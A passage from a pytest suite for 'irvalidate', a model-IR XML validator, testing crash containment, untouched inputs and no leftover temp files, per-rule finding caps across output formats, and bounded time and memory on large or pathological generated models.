    assert [f["path"] for f in report["files"]] == [str(p) for p in files], "files missing or reordered"
    for entry in report["files"]:
        assert entry["findings"] == alone[entry["path"]], f"{entry['path']} changed in company"
        name = Path(entry["path"]).name
        if name.startswith("h-") or "broken" in name or name.startswith("IRV"):
            assert any(f["severity"] == "error" for f in entry["findings"]), name
    valid = [e for e in report["files"] if Path(e["path"]).name in
             {p.name for p in (SAMPLES / "valid").glob("*.xml")}]
    assert len(valid) == 12
    assert all(not any(f["severity"] == "error" for f in e["findings"]) for e in valid)
    assert snapshot(tmp_path / "models") == before
    # -j 2 in a subprocess: the same report, the same exit code, nothing left in TMPDIR
    proc = run_python_m(["-j", "2", "--format", "json", *files], tmp_path / "proc")
    assert check_proc(proc, "-j 2 over 20 files", rss_mb=1000) == report
    assert proc.rc == 1
    assert snapshot(tmp_path / "models") == before


def _patched_set(directory: Path) -> list[Path]:
    directory.mkdir()
    ir = IR()
    x, y = ir.parameter("2,3", name="x"), ir.parameter("4", name="y")
    bad = ir.op("Add", [x, y], [[2, 3]], name="incompatible_add")          # IRV102
    ir.result(bad)
    z = ir.parameter("2,1", name="z")
    ir.result(ir.op("Multiply", [x, z], [[2, 4]], name="wrong_output"))  # IRV101
    ir.op("Relu", [x], [[2, 3]], name="dead")                           # IRV211
    first = ir.write(directory, "a_patched")
    other = IR()
    p, q = other.parameter("2,3"), other.parameter("3")
    other.result(other.op("Add", [p, q], [[2, 4]]))                     # IRV101 only
    second = other.write(directory, "b_other")
    third = directory / "c_valid.xml"
    third.write_bytes(GENUINE.read_bytes())
    third.with_suffix(".bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    return [first, second, third]


def _report(capsys, files, *extra) -> tuple:
    run = run_main(["--format", "json", *extra, *files], capsys)
    assert run.rc in (0, 1), run.err
    return run.rc, {Path(e["path"]).name: e["findings"] for e in json.loads(run.out)["files"]}


@pytest.mark.parametrize("how", ["raises-at-call", "raises-while-iterating"])
def test_a_crashing_rule_is_contained(how, tmp_path, capsys, monkeypatch):
    files = _patched_set(tmp_path / "m")
    rc, baseline = _report(capsys, files)
    assert {f["rule"] for f in baseline["a_patched.xml"]} >= {"IRV101", "IRV102", "IRV211"}
    original = irvalidate.rules.incompatible.check

    def broken(ctx):
        if not ctx.doc.path.endswith("a_patched.xml"):
            return original(ctx)
        if how == "raises-at-call":
            raise RuntimeError("injected failure")

        def generate():
            yield from original(ctx)
            raise RuntimeError("injected failure")
        return generate()
    monkeypatch.setattr(irvalidate.rules.incompatible, "check", broken)
    rc, patched = _report(capsys, files)
    assert rc == 1
    crashed = [f for f in patched["a_patched.xml"] if f["rule"] == "IRV000"]
    assert crashed and all("IRV102" in f["message"] and "incompatible-inputs" in f["message"]
                           and "injected failure" in f["message"] for f in crashed), crashed
    others = [f for f in baseline["a_patched.xml"] if f["rule"] != "IRV102"]
    for finding in others:
        assert finding in patched["a_patched.xml"], f"{finding['rule']} lost when IRV102 crashed"
    assert patched["b_other.xml"] == baseline["b_other.xml"]
    assert patched["c_valid.xml"] == baseline["c_valid.xml"]
    for fmt in ("text", "sarif", "github"):
        run = run_main(["--format", fmt, *files], capsys)
        assert run.rc == 1 and "IRV000" in run.out and run.err == ""


def test_a_crashing_parser_is_contained(tmp_path, capsys, monkeypatch):
    files = _patched_set(tmp_path / "m")
    _, baseline = _report(capsys, files)
    real_parse = irvalidate.engine.validation.parse

    def parse(path):
        if Path(path).name == "b_other.xml":
            raise MemoryError("injected")
        return real_parse(path)
    monkeypatch.setattr(irvalidate.engine.validation, "parse", parse)
    rc, patched = _report(capsys, files)
    assert rc == 1
    assert [f["rule"] for f in patched["b_other.xml"]] == ["IRV000"]
    assert "injected" in patched["b_other.xml"][0]["message"]
    assert patched["a_patched.xml"] == baseline["a_patched.xml"]
    assert patched["c_valid.xml"] == baseline["c_valid.xml"]


# --------------------------------------------------------------------------------------------
# 4. input files are never written, moved or touched; no temporary file is left
# --------------------------------------------------------------------------------------------

def test_inputs_untouched_and_no_temp_files_with_two_jobs(tmp_path, capsys, private_tempdir):
    models = tmp_path / "models"
    files = isolation_set(models)
    extra = models / "extra"
    extra.mkdir()
    build_broadcast_bomb("target-values-1e18", extra)
    (extra / "model.bin").rename(extra / "weights.data")
    (extra / "model.bin").symlink_to("weights.data")
    (extra / "linked.xml").symlink_to(files[0])
    (models / "dir.bin").mkdir()
    (models / "dir.xml").write_bytes(GENUINE.read_bytes())
    before = snapshot(models)
    out_dir = tmp_path / "reports"
    out_dir.mkdir()
    for fmt in FORMATS:
        run = run_main(["--format", fmt, "--output", out_dir / f"report.{fmt}", models], capsys)
        assert run.rc == 1 and run.out == "" and run.err == ""
        run = run_main(["-j", "2", "--format", fmt, models], capsys)
        assert run.rc == 1
    assert sorted(os.listdir(out_dir)) == sorted(f"report.{fmt}" for fmt in FORMATS)
    proc = run_python_m(["-j", "2", "--format", "json", "--output", out_dir / "sub.json", models],
                        tmp_path / "proc")
    assert proc.rc == 1 and not proc.temp_left and not proc.timed_out, proc.err
    assert snapshot(models) == before, "input files were written, moved or touched"
    assert not os.listdir(private_tempdir)


def test_hook_mode_leaves_staged_files_alone(tmp_path, capsys):
    """--skip-non-ir over a mix, as the pre-commit hook runs: nothing written beside them."""
    files = isolation_set(tmp_path / "staged")
    (tmp_path / "staged" / "pom.xml").write_text("<project/>")
    before = snapshot(tmp_path / "staged")
    run = run_main(["--skip-non-ir", "-j", "2", *files, tmp_path / "staged" / "pom.xml"], capsys)
    check_clean_run(run, "text", "hook")
    assert run.rc == 1 and "pom.xml" not in run.out
    assert snapshot(tmp_path / "staged") == before


# --------------------------------------------------------------------------------------------
# 5. bounded cost
# --------------------------------------------------------------------------------------------

def add_chain(n: int) -> IR:
    ir = IR()
    x, y = ir.parameter("2,3"), ir.parameter("3")
    prev = x
    for _ in range(n):
        prev = ir.op("Add", [prev, y], [[2, 3]])
    ir.result(prev)
    return ir


def _wide(kind: str, n: int) -> IR:
    ir = IR()
    if kind == "concat-inputs":
        x = ir.parameter("2")
        ir.result(ir.op("Concat", [x] * n, [[2 * n]], {"axis": "0"}))
    elif kind == "shape-chain-with-broadcasts":
        # value propagation: every Broadcast reads a longer chain of the same shape value
        x = ir.parameter("2,3")
        value = ir.op("ShapeOf", [x], [[2]], version="opset3", out_precision="I64")
        one, scalar = ir.const([1]), ir.const([1.0], "f32", shape=[])
        for k in range(n // 2):
            value = ir.op("Add", [value, one], [[2]])
            ir.result(ir.op("Broadcast", [scalar, value], [[3 + k, 4 + k]], {"mode": "numpy"},
                            version="opset3"))
    elif kind == "edges-into-one-port":
        x, y = ir.parameter("2"), ir.parameter("2")
        ir.result(ir.op("Add", [x, y], [[2]]))
        ir.edges += [("0", "0", "2", "0")] * n
    elif kind == "duplicate-layer-ids":
        x = ir.parameter("2")
        for _ in range(n):
            ir.op("Relu", [x], [[2]])
        for layer in ir.layers:
            layer.id = "0"
    elif kind == "fan-out":
        x = ir.parameter("2")
        for _ in range(n):
            ir.result(x)
    elif kind == "cycle":
        ir = _chain(n)
        ir.edges[0] = (str(n), "1", "1", "0")
    elif kind == "outputs-of-one-layer":
        x = ir.parameter("2")
        out = ir.op("Split", [x], [[1]] * n, {"num_splits": str(n)})
        ir.result(out)
    elif kind == "dims-of-one-port":
        ir.result(ir.parameter(",".join(["1"] * n)))
    elif kind == "rt-info-entries":
        return hostile_ir(layer_inner="<rt_info>" + '<attribute name="a" version="0" value="b"/>' * n
                          + "</rt_info>")
    elif kind == "edges-in-a-body":
        return body_edges(n)
    return ir


def body_edges(n: int) -> str:
    """A TensorIterator whose body's Result is fed by ``n`` copies of one edge (IRV208)."""
    one = '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
    return body_chain(0).replace(one, one * n, 1)


def body_chain(n: int) -> str:
    """A TensorIterator whose body is a chain of ``n`` Relu layers."""
    port = '<port id="{}" precision="FP32"><dim>2</dim></port>'
    relu = ('<layer id="{i}" name="r{i}" type="Relu" version="opset1"><input>' + port.format(0)
            + "</input><output>" + port.format(1) + "</output></layer>")
    layers = ['<layer id="0" name="p" type="Parameter" version="opset1"><data shape="2" '
              'element_type="f32"/><output>' + port.format(0) + "</output></layer>"]
    layers += [relu.format(i=i) for i in range(1, n + 1)]
    layers.append(f'<layer id="{n + 1}" name="r" type="Result" version="opset1"><input>'
                  + port.format(0) + "</input></layer>")
    edges = [f'<edge from-layer="{i}" from-port="{1 if i else 0}" to-layer="{i + 1}" to-port="0"/>'
             for i in range(n + 1)]
    return ('<?xml version="1.0"?>\n<net name="b" version="11"><layers>'
            '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="2" '
            'element_type="f32"/><output>' + port.format(0) + "</output></layer>"
            '<layer id="1" name="ti" type="TensorIterator" version="opset1"><input>'
            + port.format(0) + "</input><output>" + port.format(1) + "</output>"
            '<port_map><input external_port_id="0" internal_layer_id="0"/>'
            f'<output external_port_id="1" internal_layer_id="{n + 1}"/></port_map>'
            "<body><layers>" + "".join(layers) + "</layers><edges>" + "".join(edges)
            + "</edges></body></layer>"
            '<layer id="2" name="out" type="Result" version="opset1"><input>' + port.format(0)
            + "</input></layer></layers><edges>"
            '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>'
            '<edge from-layer="1" from-port="1" to-layer="2" to-port="0"/></edges></net>\n')


def _write(case, directory: Path, stem: str) -> Path:
    if isinstance(case, str):
        path = directory / f"{stem}.xml"
        path.write_text(case)
        return path
    return case.write(directory, stem)


WIDE = {"concat-inputs": 2000, "shape-chain-with-broadcasts": 2000, "edges-into-one-port": 5000, "duplicate-layer-ids": 2000,
        "fan-out": 2000, "cycle": 3000, "outputs-of-one-layer": 2000, "dims-of-one-port": 8000,
        "rt-info-entries": 8000, "edges-in-a-body": 32000}


def test_a_long_chain_is_clean(tmp_path):
    """2,000 Adds in a chain, every shape right: no finding.  How the time grows with the
    chain is measured by benchmarks/hostile.py."""
    assert validate_file(str(add_chain(2000).write(tmp_path, "chain"))).findings == []


@pytest.mark.parametrize("kind", sorted(WIDE))
def test_many_of_one_thing_is_reported_without_crashing(kind, tmp_path, capsys):
    """n of one thing (inputs of a layer, edges into a port, ...) is reported, never crashed
    on.  How the time grows from n to 4n is measured by benchmarks/hostile.py."""
    assess(_write(_wide(kind, WIDE[kind]), tmp_path, kind), capsys, formats=("json",))


def test_baseline_memory_of_the_command(tmp_path):
    """The reference point for the bombs' bound: a tiny valid IR."""
    path = tmp_path / "in" / "model.xml"
    path.parent.mkdir()
    path.write_bytes(GENUINE.read_bytes())
    path.with_suffix(".bin").write_bytes(GENUINE.with_suffix(".bin").read_bytes())
    proc = run_python_m(["--format", "json", path], tmp_path / "proc")
    check_proc(proc, "baseline")
    print(f"\nbaseline python -m irvalidate: {proc.rss_mb:.0f} MB peak RSS, {proc.seconds:.2f} s")
    assert proc.rc == 0 and proc.rss_mb < BOMB_RSS_MB / 2


def write_big_chain(path: Path, target_bytes: int) -> int:
    """A chain Parameter -> (Add with a Const) x N -> Result of about ``target_bytes``,
    written as text in one pass; every Const reads the same 4 bytes of a tiny .bin."""
    wide = '<port id="{}" precision="FP32"><dim>1</dim><dim>64</dim></port>'
    one = '<port id="{}" precision="FP32"><dim>1</dim></port>'
    pair = ('<layer id="{c}" name="c{c}" type="Const" version="opset1"><data element_type="f32" '
            'shape="1" offset="0" size="4"/><output>' + one.format(0) + '</output></layer>\n'
            '<layer id="{a}" name="add{a}" type="Add" version="opset1"><data auto_broadcast='
            '"numpy"/><input>' + wide.format(0) + one.format(1) + '</input><output>'
            + wide.format(2) + '</output></layer>\n')
    edge = ('<edge from-layer="{p}" from-port="{pp}" to-layer="{a}" to-port="0"/>\n'
            '<edge from-layer="{c}" from-port="0" to-layer="{a}" to-port="1"/>\n')
    per_pair = len(pair.format(c=100001, a=100002)) + len(edge.format(p=100000, pp=2, c=100001,
                                                                      a=100002))
    pairs = target_bytes // per_pair
    with open(path, "w") as out:
        out.write('<?xml version="1.0"?>\n<net name="big" version="11">\n<layers>\n'
                  '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,64" '
                  'element_type="f32"/><output>' + wide.format(0) + "</output></layer>\n")
        for i in range(pairs):
            out.write(pair.format(c=1 + 2 * i, a=2 + 2 * i))
        result = 2 * pairs + 1
        out.write(f'<layer id="{result}" name="out" type="Result" version="opset1"><input>'
                  + wide.format(0) + "</input></layer>\n</layers>\n<edges>\n")
        prev, prev_port = 0, 0
        for i in range(pairs):
            out.write(edge.format(p=prev, pp=prev_port, c=1 + 2 * i, a=2 + 2 * i))
            prev, prev_port = 2 + 2 * i, 2
        out.write(f'<edge from-layer="{prev}" from-port="{prev_port}" to-layer="{result}" '
                  f'to-port="0"/>\n</edges>\n</net>\n')
    path.with_suffix(".bin").write_bytes(b"\0\0\x80\x3f")
    return 2 * pairs + 2


#: ~2x the peak RSS measured for the 100 MB IR (324k layers): 913-1017 MB, 34-43 s
BIG_IR_RSS_MB = 2000


@slow
@pytest.mark.skipif(os.environ.get("IRVALIDATE_SLOW") != "1", reason="set IRVALIDATE_SLOW=1")
def test_memory_of_a_100mb_ir(tmp_path):
    path = tmp_path / "in" / "big.xml"
    path.parent.mkdir()
    layers = write_big_chain(path, 100 << 20)
    size_mb = path.stat().st_size / (1 << 20)
    proc = run_python_m(["--format", "json", path], tmp_path / "proc", timeout=900,
                        address_space=16 << 30)
    print(f"\n{size_mb:.0f} MB IR, {layers} layers: {proc.seconds:.1f} s, peak RSS "
          f"{proc.rss_mb:.0f} MB")
    report = check_proc(proc, "100 MB IR", rss_mb=BIG_IR_RSS_MB, time_limit=900)
    assert report["files"][0]["findings"] == [], report["files"][0]["findings"][:3]


# --- findings per rule per file, and every command on a file that makes a million ---------

def write_dangling_edges(path: Path, n: int) -> Path:
    """Parameter -> Relu -> Result, valid, then ``n`` edges between layers that do not exist:
    a 73 MB file of 10^6 such edges took 1.35 GB (2.7 GB with --reshape) at the issue."""
    port = '<port id="{}" precision="FP32"><dim>1</dim><dim>3</dim></port>'
    with open(path, "w") as out:
        out.write('<?xml version="1.0"?>\n<net name="dangling" version="11">\n<layers>\n'
                  '<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" '
                  f'element_type="f32"/><output>{port.format(0)}</output></layer>\n'
                  f'<layer id="1" name="relu" type="Relu" version="opset1"><input>{port.format(0)}'
                  f'</input><output>{port.format(1)}</output></layer>\n'
                  f'<layer id="2" name="out" type="Result" version="opset1"><input>'
                  f'{port.format(0)}</input></layer>\n</layers>\n<edges>\n'
                  '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>\n'
                  '<edge from-layer="1" from-port="1" to-layer="2" to-port="0"/>\n')
        out.writelines(f'<edge from-layer="{1000000 + i}" from-port="0" to-layer="{2000000 + i}" '
                       f'to-port="0"/>\n' for i in range(n))
        out.write("</edges>\n</net>\n")
    return path


#: how each format shows the count of what the cap leaves out
_CAP_SHOWN = {"text": r": IRV202 \[error\] 17 more dangling-edge findings",
              "concise": r": IRV202 \[error\] 17 more dangling-edge findings",
              "github": r"^::error file=.*title=IRV202 dangling-edge::17 more dangling-edge",
              "json": r'"message": "17 more dangling-edge findings',
              "sarif": r'"text": "17 more dangling-edge findings'}


@pytest.mark.parametrize("fmt", sorted(_CAP_SHOWN))
def test_findings_per_rule_are_capped_in_every_format(fmt, tmp_path, capsys, monkeypatch):
    """Issue 24, 10: a report lists MAX_PER_RULE findings of one rule per file (3 here) and
    one more that counts the rest, in every format."""
    monkeypatch.setattr(irvalidate.engine.validation, "MAX_PER_RULE", 3)
    path = write_dangling_edges(tmp_path / "model.xml", 20)
    run = run_main(["--format", fmt, path], capsys)
    check_clean_run(run, fmt, fmt)
    assert re.search(_CAP_SHOWN[fmt], run.out, re.M), run.out[-3000:]
    assert len(re.findall(r"layer id '\d+' does not exist", run.out)) == 3


def test_the_cap_leaves_fixable_findings_to_fix(tmp_path, capsys, monkeypatch):
    """--fix plans every fixable problem, whatever the cap; the report is cut after it."""
    monkeypatch.setattr(irvalidate.engine.validation, "MAX_PER_RULE", 2)
    ir = _chain(6)
    for layer in ir.layers[1:-1]:
        layer.outputs[0].dims[:] = [5]  # each Relu declares [5] where [2] flows
    path = ir.write(tmp_path)
    run = run_main(["--fix", "--format", "json", path], capsys)
    assert run.rc == 0, run.err
    assert "<dim>5</dim>" not in path.read_text() and "Fixed 6 problems" in run.err, run.err


#: each command of the issue (the second file for two files at once, -j 2 included)
AMPLIFYING_COMMANDS = {
    "check": ["--format", "json", "{a}"], "json-two-files": ["--format", "json", "{a}", "{b}"],
    "reshape": ["--reshape", "x[2,3]", "--format", "json", "{a}"], "diff": ["--diff", "{a}"],
    "fix": ["--fix", "--format", "json", "{a}"], "shapes": ["shapes", "{a}"],
    "reshapeable": ["reshapeable", "{a}"], "j2": ["-j", "2", "--format", "json", "{a}", "{b}"]}


@pytest.mark.parametrize("command", sorted(AMPLIFYING_COMMANDS))
def test_every_command_is_bounded_on_a_million_findings(command, tmp_path):
    """Issue 24, 10: the file of 10^6 dangling edges, at 10,000 and 40,000 edges: every
    command under the time and memory caps, and four times the edges add no report and
    only the memory of the file's records and of the analysis that indexes them (30,000 edges
    more: 12-15 MB measured, the plain check 13; 18 MB allowed a file)."""
    found = {}
    for n in (10_000, 40_000):
        folder = tmp_path / str(n)
        folder.mkdir()
        a = write_dangling_edges(folder / "a.xml", n)
        b = shutil.copy(a, folder / "b.xml")
        args = [arg.format(a=a, b=b) for arg in AMPLIFYING_COMMANDS[command]]
        proc = run_python_m(args, tmp_path / f"proc{n}")
        assert proc.rc in (0, 1) and not proc.timed_out, (n, proc.rc, proc.err[-2000:])
        assert "Traceback" not in proc.err and not proc.temp_left, proc.err[-2000:]
        assert proc.cpu < TIME_LIMIT and proc.rss_mb < BOMB_RSS_MB, (n, proc)
        found[n] = proc
    small, large = found[10_000], found[40_000]
    assert len(large.out) < len(small.out) + 1000, (len(small.out), len(large.out))
    # two files in one process: the first file's records are freed, but not all of that
    # memory goes back to the system before the second is read (24 MB measured)
    allowed = 36 if command == "json-two-files" else 18
    assert large.rss_mb - small.rss_mb < allowed, (small.rss_mb, large.rss_mb)


def write_huge_rank(path: Path, rank: int) -> Path:
    """Parameter -> Relu -> Result, every port of rank ``rank``."""
    dims = "<dim>3</dim>" * rank
    port = f'<port id="{{}}" precision="FP32">{dims}</port>'
    path.write_text(
        '<?xml version="1.0"?>\n<net name="rank" version="11">\n<layers>\n'
        f'<layer id="0" name="x" type="Parameter" version="opset1"><data shape="'
        f'{",".join(["3"] * rank)}" element_type="f32"/><output>{port.format(0)}</output>'
        f'</layer>\n<layer id="1" name="r" type="Relu" version="opset1"><input>'
        f'{port.format(0)}</input><output>{port.format(1)}</output></layer>\n'
        f'<layer id="2" name="out" type="Result" version="opset1"><input>{port.format(0)}'
        '</input></layer>\n</layers>\n<edges>\n'
        '<edge from-layer="0" from-port="0" to-layer="1" to-port="0"/>\n'
        '<edge from-layer="1" from-port="1" to-layer="2" to-port="0"/>\n</edges>\n</net>\n')
    return path


def test_reshapeable_caps_the_axes_of_a_huge_rank(tmp_path):
    """Issue 24, 10: reshapeable on an input of rank 200,000 ran past 60 s (then 64 trials,
    each re-inferring the model at that rank).  Issue 27: one symbolic inference, symbols on
    at most MAX_AXES axes, and the report says how many are left out."""
    from irvalidate.reshaping.constraints import MAX_AXES
    (tmp_path / "in").mkdir()
    path = write_huge_rank(tmp_path / "in" / "rank.xml", 200_000)
    proc = run_python_m(["reshapeable", "--format", "json", path], tmp_path / "proc")
    assert proc.rc == 0 and not proc.timed_out, proc.err[-2000:]
    assert proc.cpu < TIME_LIMIT and proc.rss_mb < BOMB_RSS_MB, proc
    found = json.loads(proc.out)["files"][0]["inputs"][0]
    assert len(found["axes"]) == MAX_AXES and found["axes_not_analysed"] == 200_000 - MAX_AXES
    first = found["axes"][0]  # a Relu: any size
    assert first["exact"] and first["values"] is None and first["multiple_of"] == 1, first
    assert first["min"] == 1 and first["max"] is None, first
